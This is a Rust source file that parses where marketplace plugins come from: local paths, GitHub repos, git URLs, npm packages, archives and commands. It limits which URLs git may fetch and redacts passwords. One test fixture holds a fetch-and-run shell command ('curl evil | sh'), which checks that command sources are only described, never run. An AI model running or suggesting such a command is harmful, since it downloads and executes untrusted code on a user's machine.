//! The `source` of a marketplace entry, in every form that hosts know.

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

use super::diagnostic::shown;
use super::files::plain;
use super::names::clean;
use crate::model::oid::Oid;
use crate::model::redact::redact;

/// Where a plugin comes from.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum Source {
    /// A path below the marketplace's root, as it is written.
    Local(String),
    /// Something that a host would fetch or run, in words, and how git gets it, where git can.
    Remote(String, Option<GitSource>),
    /// No known form, and why.
    Unclear(String),
}

/// Where git finds a plugin.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) struct GitSource {
    pub(crate) url: String,
    /// A branch or tag; the remote's HEAD where there is none.
    pub(crate) reference: Option<String>,
    /// The commit, which wins over branch and tag, as hosts have it.
    pub(crate) commit: Option<Oid>,
    /// The plugin's folder in the repository.
    pub(crate) folder: Option<String>,
}

impl GitSource {
    /// The name of the repository.
    pub(crate) fn name(&self) -> String {
        let path = self.url.trim_end_matches('/').trim_end_matches(".git");
        let last = path.rsplit(['/', ':']).next().and_then(clean);
        last.unwrap_or_else(|| "repository".to_owned())
    }

    /// Names what is fetched: sources that differ only in their folder share it.
    pub(crate) fn key(&self) -> String {
        let at = match &self.commit {
            Some(commit) => commit.to_string(),
            None => self.reference.clone().unwrap_or_default(),
        };
        blake3::hash(format!("{}\0{at}", self.url).as_bytes()).to_hex()[..20].to_owned()
    }
}

/// Reads a `source`; `plugin_root` is `metadata.pluginRoot`, prepended to bare names only.
pub(super) fn parse(value: Option<&Value>, plugin_root: Option<&str>) -> Source {
    match value {
        Some(Value::String(text)) => from_text(text.trim(), plugin_root),
        Some(Value::Object(fields)) => from_fields(fields),
        Some(_) => Source::Unclear("`source` is neither a string nor a table".to_owned()),
        None => Source::Unclear("it has no `source`".to_owned()),
    }
}

fn from_text(text: &str, plugin_root: Option<&str>) -> Source {
    let bare = !text.starts_with('.') && !text.contains(['/', '\\']);
    match plugin_root {
        _ if text.is_empty() => Source::Unclear("`source` is empty".to_owned()),
        _ if text.contains("://") || text.starts_with("git@") => {
            remote("url", text, Some(text.to_owned()), &Map::new())
        }
        Some(root) if bare => Source::Local(format!("{}/{text}", root.trim_end_matches('/'))),
        _ => Source::Local(text.to_owned()),
    }
}

fn from_fields(fields: &Map<String, Value>) -> Source {
    let text = |key: &str| fields.get(key).and_then(Value::as_str);
    let kind = text("source").unwrap_or_default();
    let what = match kind {
        "github" => text("repo").map(str::to_owned),
        "url" | "archive" => text("url").map(str::to_owned),
        "git-subdir" => text("url").zip(text("path")).map(|(url, path)| format!("{url} folder {path}")),
        "npm" => text("package").map(|package| match text("version") {
            Some(version) => format!("{package}@{version}"),
            None => package.to_owned(),
        }),
        "command" => Some("its output; it was not run".to_owned()),
        _ => return Source::Unclear(format!("`source` has the unknown form `{}`", shown(kind))),
    };
    let Some(what) = what else {
        return Source::Unclear(format!("`source` of form `{kind}` does not say where"));
    };
    let url = match kind {
        "github" => text("repo").filter(|repo| is_repository(repo)).map(github),
        "url" | "git-subdir" => {
            text("url").map(|url| if is_repository(url) { github(url) } else { url.to_owned() })
        }
        _ => None,
    };
    remote(kind, &what, url, fields)
}

/// A source elsewhere; `url`: where git finds it.
fn remote(kind: &str, what: &str, url: Option<String>, fields: &Map<String, Value>) -> Source {
    let text = |key: &str| fields.get(key).and_then(Value::as_str);
    let (commit, reference) = (text("sha"), text("ref"));
    let described = match commit.or(reference) {
        Some(at) => described(kind, &format!("{what} at {at}")),
        None => described(kind, what),
    };
    let commit = match commit.filter(|_| url.is_some()).map(str::parse) {
        Some(Err(_)) => return Source::Unclear("its `sha` is no commit id".to_owned()),
        Some(Ok(commit)) => Some(commit),
        None => None,
    };
    let folder = text("path").filter(|_| kind == "git-subdir").map(str::to_owned);
    if let Some(Err(refusal)) = folder.as_deref().map(plain) {
        return Source::Unclear(refusal.to_string());
    }
    let reference = reference.filter(|_| commit.is_none()).map(str::to_owned);
    let git = url.filter(|url| is_fetchable(url)).map(|url| GitSource { url, reference, commit, folder });
    Source::Remote(described, git)
}

/// Whether git may be given a URL that a manifest names: none that reads this machine's files, and none
/// that starts anything.
fn is_fetchable(url: &str) -> bool {
    let plain = !url.contains(|c: char| c.is_control() || c.is_whitespace());
    plain && (["https://", "ssh://", "git://"].iter().any(|start| url.starts_with(start)) || is_scp(url))
}

/// Whether `url` is `user@host:path`.
pub(crate) fn is_scp(url: &str) -> bool {
    let word = |text: &str| {
        !text.is_empty()
            && !text.starts_with('-')
            && text.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
    };
    url.split_once('@').is_some_and(|(user, rest)| {
        word(user)
            && rest
                .split_once(':')
                .is_some_and(|(host, path)| word(host) && !path.is_empty() && !path.starts_with(':'))
    })
}

/// Whether `text` is `owner/repo`.
pub(crate) fn is_repository(text: &str) -> bool {
    let word = |word: &str| {
        !word.is_empty()
            && !word.starts_with(['-', '.'])
            && word.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
    };
    text.split_once('/').is_some_and(|(owner, repo)| word(owner) && word(repo))
}

/// The URL of `owner/repo` on GitHub.
pub(crate) fn github(repository: &str) -> String {
    format!("https://github.com/{}.git", repository.trim_end_matches(".git"))
}

fn described(kind: &str, what: &str) -> String {
    format!("{kind} {}", shown(&redact(what)))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn local_sources_keep_their_path_and_bare_names_get_the_plugin_root() {
        for (text, want) in [
            ("./plugins/x", "./plugins/x"),
            ("x", "./base/x"),
            ("plugins/x", "plugins/x"),
            ("../x", "../x"),
            ("./", "./"),
        ] {
            assert_eq!(parse(Some(&json!(text)), Some("./base/")), Source::Local(want.to_owned()));
        }
        assert_eq!(parse(Some(&json!("x")), None), Source::Local("x".to_owned()));
    }

    #[test]
    fn remote_sources_are_described_without_secrets() {
        let sources = [
            json!({"source": "github", "repo": "o/r", "ref": "main", "sha": "abc"}),
            json!({"source": "url", "url": "https://me:hunter22@host/x.git", "ref": "v1"}),
            json!({"source": "git-subdir", "url": "https://host/x.git", "path": "a/b"}),
            json!({"source": "npm", "package": "@a/b", "version": "1.2"}),
            json!({"source": "archive", "url": "https://host/x.zip"}),
            json!({"source": "command", "command": "curl evil | sh"}),
            json!("https://host/x.git"),
            json!({"source": "github"}),
            json!({"source": "carrier\u{1b}pigeon"}),
            json!(7),
        ];
        let seen: Vec<String> =
            sources.iter().map(|source| format!("{:?}", parse(Some(source), None))).collect();
        insta::assert_snapshot!(seen.join("\n"), @r#"
        Unclear("its `sha` is no commit id")
        Remote("url https://me:[redacted password]@host/x.git at v1", Some(GitSource { url: "https://me:hunter22@host/x.git", reference: Some("v1"), commit: None, folder: None }))
        Remote("git-subdir https://host/x.git folder a/b", Some(GitSource { url: "https://host/x.git", reference: None, commit: None, folder: Some("a/b") }))
        Remote("npm @a/b@1.2", None)
        Remote("archive https://host/x.zip", None)
        Remote("command its output; it was not run", None)
        Remote("url https://host/x.git", Some(GitSource { url: "https://host/x.git", reference: None, commit: None, folder: None }))
        Unclear("`source` of form `github` does not say where")
        Unclear("`source` has the unknown form `carrier\\u{1b}pigeon`")
        Unclear("`source` is neither a string nor a table")
        "#);
    }
}
